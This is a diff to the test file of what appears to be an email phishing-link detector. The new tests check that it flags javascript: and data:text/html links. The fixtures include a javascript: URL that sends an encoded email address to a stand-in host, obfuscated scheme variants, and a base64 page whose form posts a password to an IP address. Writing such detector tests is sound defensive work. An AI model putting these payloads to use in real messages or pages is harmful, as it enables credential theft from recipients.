@@ -59,6 +59,16 @@ describe('the shape of a link', () => {
     assert.equal(linkKind('https://a.b.partner-tunnel.test/', linksOptionsSchema.parse({ riskyHosts: ['Partner-Tunnel.test'] }), blocked), 'risky-host');
   });
 
+  it('a link that runs a script, however it is written', () => {
+    for (const url of ["javascript:location='https://ms-secure.example/'+btoa('u@example.com')", ' JavaScript:void(0)', 'java\tscript:alert(1)', 'vbscript:msgbox(1)']) assert.equal(kind(url), 'script', url);
+    assert.equal(kind('https://example.com/javascript:x'), null);
+  });
+
+  it('a link that carries a page or a file, not one that carries a picture', () => {
+    for (const url of ['data:text/html;base64,PGZvcm0+', 'data:text/html,%3Cform%3E', 'DATA:application/octet-stream;base64,TVqQ', 'data:application/xhtml+xml;charset=utf-8,<html/>']) assert.equal(kind(url), 'data-page', url);
+    for (const url of ['data:image/png;base64,iVBORw0KGgo=', 'data:image/svg+xml;utf8,<svg/>', 'data:,Hello', 'data:text/plain;base64,SGVsbG8=']) assert.equal(kind(url), null, url);
+  });
+
   it('honest links are nothing', () => {
     for (const url of ['https://www.example.com/news?id=5', 'www.example.de/angebot', 'https://docs.example/guide.pdf', 'ftp://ftp.example.org/pub/file.tar.gz']) assert.equal(kind(url), null, url);
   });
@@ -91,6 +101,17 @@ describe('the links check', () => {
     const pdf = pdfDocument({ links: ['http://198.51.100.7/portal/'] });
     const raw = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease see the document.\r\n--b\r\nContent-Type: application/pdf; name="doc.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n${pdf.toString('base64')}\r\n--b--\r\n`;
     assert.deepEqual(await run(raw), ['LINK_IP_ADDRESS: http://198.51.100.7/portal/ (link in a PDF)']);
+  });
+
+  it('a page inside a link: what it is, and where its form posts judged as a link of the mail', async () => {
+    const page = Buffer.from('<html><form action="http://203.0.113.9/p.php"><input type="password" name="pw"></form></html>').toString('base64');
+    const html = `<p>Sign-in from Lagos. <a href="data:text/html;base64,${page}">Secure your account</a> or <a href="javascript:location='https://x.example/'">review</a>.</p><img src="data:image/png;base64,iVBORw0KGgo=">`;
+    const raw = `From: a@sender.test\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}\r\n`;
+    assert.deepEqual(await run(raw), [
+      'LINK_IP_ADDRESS: http://203.0.113.9/p.php (link in a page inside a link)',
+      `LINK_SCRIPT: javascript:location='https://x.example/'`,
+      `LINK_DATA_PAGE: a text/html page inside the link: a web page that asks for a password (data:text/html;base64,${page.slice(0, 77 - 22)}...)`,
+    ]);
   });
 
   it('a letter with honest links says nothing', async () => {
